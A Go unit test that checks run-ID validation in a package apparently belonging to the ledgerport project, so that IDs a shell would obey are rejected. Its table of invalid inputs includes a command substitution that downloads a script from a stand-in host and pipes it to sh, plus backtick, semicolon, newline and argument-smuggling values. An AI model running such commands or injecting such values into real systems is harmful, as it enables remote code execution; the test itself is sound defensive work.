package claims

import (
	"strings"
	"testing"

	"github.com/ledgerport/ledgerport/api/v1alpha1"
	"github.com/ledgerport/ledgerport/internal/failure"
)

// TestTheIdOfARunIsNoPartOfACommand has ids that a shell would obey: people are told to run commands with them.
func TestTheIdOfARunIsNoPartOfACommand(t *testing.T) {
	t.Parallel()
	for id, valid := range map[string]bool{
		"3f2c9a1e-0000-4000-8000-000000000001": true, "run-1": true, strings.Repeat("a", 64): true,
		"": false, strings.Repeat("a", 65): false, "$(curl -s https://evil.example/x|sh)": false, "`id`": false, "a b": false, "a;b": false, "a\nb": false, "é": false,
		"a --to theirs": false, "a\n": false,
	} {
		run := Run{
			RunIdentity: RunIdentity{ID: id, Namespace: "acme", Export: "monthly", Name: "monthly-1", OrganizationID: "o"},
			Cluster:     "theirs", State: StateStarted, Type: TypeExport, Attempt: 1, Book: "main", Series: "E",
		}
		err := run.validate()
		if (err == nil) != valid {
			t.Errorf("%q: %v", id, err)
		}
		if err != nil && failure.From(err).Reason != v1alpha1.ReasonRecordInvalid {
			t.Errorf("%q: %v", id, err)
		}
	}
}
